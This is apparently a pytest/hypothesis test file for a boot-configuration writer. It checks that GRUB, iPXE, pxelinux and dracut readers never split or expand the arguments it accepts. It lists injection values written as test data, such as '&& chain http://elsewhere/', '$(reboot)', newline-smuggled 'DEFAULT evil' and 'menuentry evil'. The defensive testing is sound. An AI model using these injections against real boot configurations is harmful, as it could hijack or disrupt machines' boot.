"""The boot syntaxes: what each can carry, proved against the readers (real ones where they run here).

Properties (hypothesis): any kernel argument :func:`bootsyntax.kernel_arg` accepts is read back
as exactly one argument, with the meaning it had, by the kernel's rules, by dracut's reader
(``dracut-getargs``), through GRUB (its lexer in grub-emu, then its command-line rebuilding),
through iPXE's script reader and through syslinux's configuration reader; anything else is
refused with one line naming it.
"""

from __future__ import annotations

import string
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from liveimg import bootsyntax
from liveimg.bootsyntax import GrubConfig, IpxeScript, PxelinuxConfig, Source
from liveimg.errors import InternalError, InvalidImage, InvalidOptions, LiveImgError
from tests.bootparsers import (
    DRACUT_UTIL,
    dracut_getargs,
    grub_emu_boot,
    grub_loader_cmdline,
    grub_script_check,
    ipxe_commands,
    ipxe_expansions,
    kernel_split,
    pxelinux_directives,
)
from tests.support import need, need_file

#: Values a hostile image (or a careless caller) might try, one per trick.
INJECTIONS = [
    "a && chain http://elsewhere/",
    "x=1 && chain http://elsewhere/",
    'x="1 && chain http://elsewhere/"',
    'x="1 || shell"',
    'x="a ; reboot"',
    "a;reboot",
    "$(reboot)",
    "x=$(reboot)",
    "${net0/mac}",
    "x=${filename}",
    'x="${filename}"',
    "a\nchain http://elsewhere/",
    "a\r\nDEFAULT evil",
    "a\x00b",
    "a\tb",
    "a\x1b[2J",
    "it's",
    "a'; reboot; '",
    'x="a" b="c',
    'x="unterminated',
    '"',
    "a\\",
    "x=a\\ b",
    "# comment",
    'x="a #rest"',
    "--",
    "=value",
    'p="a  b"',
    "\u00e0 la",
    "x=\u00a0",
    "x=\u202e",
    "}",
    "x=1 } menuentry evil {",
    "",
    " ",
    "y=" + "z" * 3000,
]
#: Real arguments, which must pass unchanged.
LEGITIMATE = [
    "quiet",
    "rw",
    "console=ttyS0,115200n8",
    "rd.live.overlay.size=1024",
    "rd.lvm.lv=vg/root",
    "root=live:http://10.0.2.2:8080/live/live-rootfs.squashfs.img",
    "ostree=/ostree/boot.1/fedora/0f3c4d5e/0",
    "ds=nocloud-net;s=http://h:1/cloud-init/",
    'acpi_osi="Windows 2009"',
    '"acpi_osi=Windows 2009"',
    "ip=192.168.1.5::192.168.1.1:255.255.255.0:node1:eth0:off",
    "rd.neednet=1",
    "systemd.unit=multi-user.target",
    "video=1024x768@60",
    "x=$y",
    "--",
]


@pytest.mark.parametrize("arg", LEGITIMATE)
def test_legitimate_arguments_pass_unchanged(arg: str) -> None:
    assert bootsyntax.kernel_arg(arg, what="--kernel-arg", source=Source.CALLER) == arg


@pytest.mark.parametrize("arg", INJECTIONS)
def test_injections_are_refused_or_inert(arg: str) -> None:
    """Each trick is refused, in one line naming the value; or it is accepted and then it is
    one argument whose meaning every reader agrees on (the properties below say so for all)."""
    if not _accepted(arg, Source.GUEST):
        with pytest.raises(InvalidImage) as excinfo:
            bootsyntax.kernel_arg(arg, what="the image's kernel argument", source=Source.GUEST)
        assert "\n" not in str(excinfo.value) and str(excinfo.value).startswith("the image's kernel argument ")
        if arg != "--":
            with pytest.raises(InvalidOptions, match=r"^--kernel-arg "):
                bootsyntax.kernel_arg(arg, what="--kernel-arg", source=Source.CALLER)
        return
    assert kernel_split(arg) == [bootsyntax.kernel_arg_meaning(arg)]
    assert len(ipxe_commands(f"kernel http://h/k {arg}")) == 1


def test_which_tricks_are_refused() -> None:
    accepted = [a for a in INJECTIONS if _accepted(a, Source.GUEST)]
    # Not expansions for any reader, one word for the kernel (GRUB gets them quoted): harmless.
    assert accepted == ["a;reboot", "$(reboot)", "x=$(reboot)", "}"]


def _accepted(arg: str, source: Source) -> bool:
    try:
        bootsyntax.kernel_arg(arg, what="x", source=source)
    except LiveImgError:
        return False
    return True


def test_a_double_dash_is_the_callers_only() -> None:
    assert _accepted("--", Source.CALLER)
    with pytest.raises(InvalidImage, match="hands the rest of the command line to init"):
        bootsyntax.kernel_arg("--", what="the image's kernel argument", source=Source.GUEST)


# --- properties ---------------------------------------------------------------------------------

#: Characters that matter to some syntax, and a few that matter to none.
_TRICKY = " \"'\\$#&|;{}()<>=\t\n\r\x00\x0b\x0c\x1b\x7f\xa0\u00e0\u2028"
_ALPHABET = st.sampled_from(list(string.ascii_letters[:6] + string.digits[:3] + ".,:/-_@%+!*?[]~" + _TRICKY))
_WORD = st.text(st.sampled_from(list("abc019=.,:/-_@%+$!*")), min_size=1, max_size=8)
_VALUE = st.text(st.sampled_from(list("abc019=.,:/-_@%+$!* ")), max_size=12)

#: Anything at all, and strings built in the shapes the kernel knows, so that both refused and
#: accepted values are plentiful.
candidates = st.one_of(
    st.text(_ALPHABET, max_size=16),
    _WORD,
    st.builds(lambda p, v: f'{p}="{v}"', _WORD, _VALUE),
    st.builds(lambda p, v: f'"{p}={v}"', _WORD, _VALUE),
    st.builds(lambda a, b: f"{a} {b}", _WORD, _WORD),
    st.builds(lambda p, n: f"{p}={'v' * n}", _WORD, st.integers(70, 2100)),  # long: GRUB's console wraps
)


@given(candidates)
def test_an_accepted_argument_is_one_argument_for_the_kernel(arg: str) -> None:
    assume(_accepted(arg, Source.GUEST))
    meaning = bootsyntax.kernel_arg_meaning(arg)
    assert kernel_split(arg) == [meaning]
    # and it leaves its neighbours alone
    assert kernel_split(f"before=1 {arg} after=2") == [("before", "1"), meaning, ("after", "2")]


@given(candidates)
def test_an_accepted_argument_reads_the_same_through_grub(arg: str) -> None:
    """GRUB gets the argument as a word without its quotes and writes it back for the kernel
    (a word with a space in double quotes): the kernel reads the same parameter and value."""
    assume(_accepted(arg, Source.GUEST))
    word = bootsyntax.grub_linux_word(arg)
    for ch in "\\'\"":  # GRUB would put a backslash before them, which the kernel keeps
        assert ch not in word
    assert kernel_split(grub_loader_cmdline(["before=1", word, "after=2"])) == [
        ("before", "1"),
        bootsyntax.kernel_arg_meaning(arg),
        ("after", "2"),
    ]


@given(candidates)
def test_an_accepted_argument_is_part_of_one_ipxe_command(arg: str) -> None:
    assume(_accepted(arg, Source.GUEST))
    script = IpxeScript("t")
    script.command("kernel", "http://h/vmlinuz", arg, "after=2")
    commands = ipxe_commands(script.text())
    assert commands == [["kernel", "http://h/vmlinuz", *arg.split(" "), "after=2"]]
    assert not any(ipxe_expansions(w) for w in commands[0])
    # iPXE's kernel command joins the words after the image with single spaces
    assert " ".join(commands[0][2:]) == f"{arg} after=2"


@given(candidates)
def test_an_accepted_argument_stays_on_its_pxelinux_line(arg: str) -> None:
    assume(_accepted(arg, Source.GUEST))
    config = PxelinuxConfig("t")
    config.directive("APPEND", "initrd=i.img", arg, "after=2", indent=2)
    config.directive("IPAPPEND", "2", indent=2)
    assert pxelinux_directives(config.text()) == [("append", f"initrd=i.img {arg} after=2"), ("ipappend", "2")]


@given(st.text(_ALPHABET, max_size=16))
def test_anything_refused_is_said_in_one_line(arg: str) -> None:
    for source, error in ((Source.GUEST, InvalidImage), (Source.CALLER, InvalidOptions)):
        try:
            bootsyntax.kernel_arg(arg, what="x", source=source)
        except LiveImgError as exc:
            assert type(exc) is error and "\n" not in str(exc) and "\r" not in str(exc)


@given(st.text(max_size=40))
def test_grub_word_is_one_literal_word(word: str) -> None:
    assume(not any(ord(c) < 0x20 or ord(c) == 0x7F for c in word))
    quoted = bootsyntax.grub_word(word)
    # single quotes keep everything literal; a ' is closed, escaped and reopened
    assert quoted == word or (quoted.startswith("'") and quoted.endswith("'"))
    assert quoted.replace("'\\''", "").count("'") in (0, 2)


@given(st.text(max_size=100))
def test_a_label_is_safe_in_every_menu(title: str) -> None:
    text = bootsyntax.label(title)
    assert text and len(text) <= bootsyntax.MAX_LABEL
    assert set(text) <= set(string.ascii_letters + string.digits + " ._,:()+/!@=-")
    assert ipxe_commands(f"echo Booting {text} (live)") == [["echo", "Booting", *text.split(), "(live)"]]
    assert pxelinux_directives(f"  MENU LABEL {text}\n") == [("menu label", text)]
    assert bootsyntax.grub_word(text) in (text, f"'{text}'")


# --- the real readers -----------------------------------------------------------------------------


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(candidates)
def test_dracut_reads_an_accepted_argument_as_written(tmp_path: Path, arg: str) -> None:
    """dracut's getargs (the kernel's next_arg() in dracut-util) on the raw command line (what
    pxelinux, iPXE and PXE_CONFIG pass) and on GRUB's rebuilding of it."""
    need_file(DRACUT_UTIL, "dracut-core")
    assume(_accepted(arg, Source.GUEST) and arg != "--")
    param, value = bootsyntax.kernel_arg_meaning(arg)
    assume(param not in ("before", "after"))
    expected = [param if value is None else value]
    raw = f"before=1 {arg} after=2"
    grub = grub_loader_cmdline(["before=1", bootsyntax.grub_linux_word(arg), "after=2"])
    for line in (raw, grub):
        assert dracut_getargs(tmp_path, line, param) == expected, line
        assert dracut_getargs(tmp_path, line, "before") == ["1"]
        assert dracut_getargs(tmp_path, line, "after") == ["2"]


def test_quotes_in_a_grub_word_reach_the_kernel_altered(tmp_path: Path) -> None:
    """Why GRUB gets ``param=a b`` and not ``param="a b"``: it would escape the quotes, and the
    kernel (here dracut's copy of its reader) does not unescape them.  liveimg wrote that before."""
    need_file(DRACUT_UTIL, "dracut-core")
    line = grub_loader_cmdline(['acpi_osi="Windows 2009"'])
    assert line == '"acpi_osi=\\"Windows 2009\\""'
    assert dracut_getargs(tmp_path, line, "acpi_osi") == ['\\"Windows']
    fixed = grub_loader_cmdline([bootsyntax.grub_linux_word('acpi_osi="Windows 2009"')])
    assert dracut_getargs(tmp_path, fixed, "acpi_osi") == ["Windows 2009"]


def test_dracut_reader_is_really_run(tmp_path: Path) -> None:
    """The reader tells arguments apart (so the property above could fail)."""
    need_file(DRACUT_UTIL, "dracut-core")
    assert dracut_getargs(tmp_path, "x=a b c", "x") == ["a"]
    assert dracut_getargs(tmp_path, 'x="a b c"', "x") == ["a b c"]
    assert dracut_getargs(tmp_path, '"y=a b"', "y") == ["a b"]
    assert dracut_getargs(tmp_path, "w=1", "nope") is None


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(candidates, min_size=1, max_size=12), st.text(max_size=60))
def test_grub_itself_reads_every_word_back(tmp_path: Path, args: list[str], title: str) -> None:
    """A grub.cfg of accepted arguments and any title, booted by GRUB (grub-emu): the entry is
    GRUB's, with the sanitised title, and ``linux`` gets exactly the words written for it."""
    need("grub-emu")
    kept = [a for a in args if _accepted(a, Source.GUEST)]
    words = [bootsyntax.grub_linux_word(a) for a in kept]
    config = GrubConfig("t")
    config.command("set", "default=0")
    config.begin("menuentry", f"{bootsyntax.label(title)} (live)")
    config.command("linux", "/vmlinuz-6", *words)
    config.command("initrd", "/initramfs-6.img")
    config.end()
    cfg = tmp_path / "grub.cfg"
    cfg.write_text(config.text())
    shown, commands = grub_emu_boot(cfg, tmp_path / "emu")
    assert shown == f"{bootsyntax.label(title)} (live)"
    assert commands == [["linux", "/vmlinuz-6", *words], ["initrd", "/initramfs-6.img"]]


def test_grub_emu_sees_an_unquoted_injection(tmp_path: Path) -> None:
    """Without quoting, GRUB does split the line: the check above can fail."""
    need("grub-emu")
    cfg = tmp_path / "grub.cfg"
    cfg.write_text("menuentry 'x' {\n  linux /k a;initrd /evil\n  initrd /i\n}\n")
    _, commands = grub_emu_boot(cfg, tmp_path / "emu")
    assert commands[:2] == [["linux", "/k", "a"], ["initrd", "/evil"]]


def test_grub_script_check_accepts_what_is_written(tmp_path: Path) -> None:
    need("grub-script-check")
    config = GrubConfig("t")
    config.begin("menuentry", bootsyntax.label("Evil' } menuentry 'x' { reboot #") + " (live)")
    config.command("linux", "/k", *(bootsyntax.grub_linux_word(a) for a in LEGITIMATE))
    config.end()
    cfg = tmp_path / "grub.cfg"
    cfg.write_text(config.text())
    assert grub_script_check(cfg) == ""
    cfg.write_text("menuentry 'x' {\n  linux /k 'a\n}\n")  # an unbalanced quote, as unquoted text would make
    assert grub_script_check(cfg) != ""


# --- the syntax writers refuse what slips through ------------------------------------------------


@pytest.mark.parametrize("value", ["a\nb", "&&", "#x", "${x}", "a  b", "a\\"])
def test_ipxe_writer_refuses_an_unchecked_value(value: str) -> None:
    with pytest.raises(InternalError):
        IpxeScript("t").command("echo", value)


@pytest.mark.parametrize("text", ["a\nDEFAULT evil", "a\rb", "a\x00", "x" * 4095])
def test_pxelinux_writer_refuses_a_line_break_or_a_long_line(text: str) -> None:
    with pytest.raises(InternalError):
        PxelinuxConfig("t").directive("APPEND", text)
    PxelinuxConfig("t").directive("APPEND", "x" * 4000)


def test_grub_writer_refuses_a_control_character_and_an_open_block() -> None:
    with pytest.raises(InternalError):
        GrubConfig("t").command("linux", "a\nb")
    config = GrubConfig("t")
    config.begin("menuentry", "x")
    with pytest.raises(InternalError):
        config.text()


def test_reference_readers_see_the_issue_15_injection() -> None:
    """The iPXE script of issue 15, as an f-string made it: two commands.  (The readers can fail.)"""
    assert ipxe_commands("#!ipxe\necho Booting X && chain http://elsewhere/ (live)\n") == [
        ["echo", "Booting", "X"],
        ["chain", "http://elsewhere/", "(live)"],
    ]
    assert pxelinux_directives("  APPEND a\nDEFAULT evil\n") == [("append", "a"), ("default", "evil")]
    assert len(pxelinux_directives("APPEND " + "x" * 5000 + "\n")) == 2  # syslinux reads the rest as a line
    assert kernel_split('a="b c" d') == [("a", "b c"), ("d", None)]


# --- names, paths, URLs ---------------------------------------------------------------------------

REAL_KERNEL_VERSIONS = [
    "6.1.0-28-amd64",
    "6.11.4-301.fc41.x86_64",
    "5.14.0-427.el9_4.x86_64+debug",
    "5.14.0-427.13.1.el9_4.x86_64+rt",
    "6.8.0-45-generic",
    "6.4.0-150600.23.25-default",
    "6.10.10-arch1-1",
    "6.6.54-0-lts",
    "6.12.0-rc7+",
    "4.18.0-553.el8_10.aarch64",
]


@pytest.mark.parametrize("version", REAL_KERNEL_VERSIONS)
def test_real_kernel_versions_are_plain(version: str) -> None:
    assert bootsyntax.kernel_version(version, where="img") == version


@pytest.mark.parametrize(
    "version",
    ["6.1;reboot", "6.1 x", "../../etc", "..", ".hidden", "-x", "6.1\n", "6.1$(x)", "6.1/x", "6.1'", "x" * 129],
)
def test_other_kernel_versions_are_refused(version: str) -> None:
    with pytest.raises(InvalidImage, match=r"^img: the kernel version .* is not a plain version"):
        bootsyntax.kernel_version(version, where="img")


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://10.0.2.2:8080/live/", "http://10.0.2.2:8080/live"),
        ("https://pxe.example.com/atomic", "https://pxe.example.com/atomic"),
        ("tftp://[fe80::1]/x", "tftp://[fe80::1]/x"),
        ("ftp://user:pw@h/pub/a%20b", "ftp://user:pw@h/pub/a%20b"),
        ("nfs://h:/srv/live", "nfs://h:/srv/live"),
    ],
)
def test_urls(url: str, expected: str) -> None:
    assert bootsyntax.base_url(url) == expected


@pytest.mark.parametrize(
    "url",
    [
        "http://h/a b",
        "http://h/a\nb",
        "http://h/${x}",
        "http://h/a&&b",
        "http://h/a;b",
        "http://h/?q=1",
        "http://h/#frag",
        "http://h/a'b",
        'http://h/a"b',
        "http://h/a\\b",
        "http://h/a%zz",
        "file:///etc",
        "gopher://h/",
        "http:///x",
        "",
    ],
)
def test_bad_urls(url: str) -> None:
    with pytest.raises(InvalidOptions, match=r"^invalid --url "):
        bootsyntax.base_url(url)


@pytest.mark.parametrize(
    ("path", "expected"), [("", ""), ("/", ""), ("images/", "images"), ("/srv/tftp/f41", "/srv/tftp/f41")]
)
def test_tftp_dirs(path: str, expected: str) -> None:
    assert bootsyntax.tftp_dir(path) == expected


@pytest.mark.parametrize("path", ["a b", "a;b", "a\nb", "$x", "a//b", "x" * 300])
def test_bad_tftp_dirs(path: str) -> None:
    with pytest.raises(InvalidOptions, match=r"^invalid --pxe-dir "):
        bootsyntax.tftp_dir(path)


@pytest.mark.parametrize("value", ["/ostree/boot.1/x/0f3c/0; reboot", "/ostree/boot.1/a b/c/0", "/x"])
def test_ostree_paths(value: str) -> None:
    assert bootsyntax.ostree_path("/ostree/boot.1/fedora-iot/0f3c4d/0") == "/ostree/boot.1/fedora-iot/0f3c4d/0"
    with pytest.raises(InvalidImage, match=r"^the deployment's ostree="):
        bootsyntax.ostree_path(value)


def test_labels() -> None:
    assert bootsyntax.label("Fedora Linux 41 (Workstation Edition)") == "Fedora Linux 41 (Workstation Edition)"
    assert bootsyntax.label("Debian GNU/Linux 12 (bookworm)") == "Debian GNU/Linux 12 (bookworm)"
    assert bootsyntax.label("Pop!_OS 22.04 LTS") == "Pop!_OS 22.04 LTS"
    assert bootsyntax.label("X && chain http://elsewhere/ #") == "X chain http://elsewhere/"
    assert bootsyntax.label("a\nb\x1b[2J'\"${x}^") == "a b 2Jx"
    assert bootsyntax.label("\u00e9\u00e9") == "Linux"
    assert len(bootsyntax.label("x" * 500)) == bootsyntax.MAX_LABEL


@pytest.mark.parametrize("name", ["node1", "a.example.com", "x-1"])
def test_hostnames(name: str) -> None:
    assert bootsyntax.hostname(name) == name


@pytest.mark.parametrize("name", ["", "a b", "a\nlocal-hostname: x", "-a", "a_b", "a..b", "x" * 64])
def test_bad_hostnames(name: str) -> None:
    with pytest.raises(InvalidOptions, match=r"^invalid --ci-hostname "):
        bootsyntax.hostname(name)


def test_single_line() -> None:
    assert bootsyntax.single_line("ssh-ed25519 AAAA user@h\u00f6st", what="k") == "ssh-ed25519 AAAA user@h\u00f6st"
    for bad in ("a\nssh-rsa evil", "a\r", "a\u2028b", ""):
        with pytest.raises(InvalidOptions, match="must be one line of printable characters"):
            bootsyntax.single_line(bad, what="--ci-ssh-key")


@pytest.mark.parametrize(
    ("url", "expected", "export"),
    [
        ("nbd://10.0.2.100:10809/", "nbd://10.0.2.100:10809", ("10.0.2.100", 10809, "f.img")),
        ("nbd://pxe.example.com/live/a", "nbd://pxe.example.com/live/a", ("pxe.example.com", 10809, "live/a/f.img")),
        ("nbd://[fd00::1]:2000/x", "nbd://[fd00::1]:2000/x", ("fd00::1", 2000, "x/f.img")),
    ],
)
def test_nbd_urls(url: str, expected: str, export: tuple[str, int, str]) -> None:
    assert bootsyntax.base_url(url) == expected
    assert bootsyntax.is_nbd(url)
    assert bootsyntax.nbd_export(f"{expected}/f.img") == export


@pytest.mark.parametrize(
    "url", ["nbd://user@h/x", "nbd://h/a%20b", "nbd://h:0/x", "nbd://h:70000/x", "nbd://h:/x", "nbd:///x"]
)
def test_bad_nbd_urls(url: str) -> None:
    with pytest.raises(InvalidOptions, match=r"^invalid --url "):
        bootsyntax.base_url(url)


def test_an_nbd_url_names_an_export() -> None:
    with pytest.raises(InvalidOptions, match=r"^invalid NBD URL "):
        bootsyntax.nbd_export("nbd://h:10809")
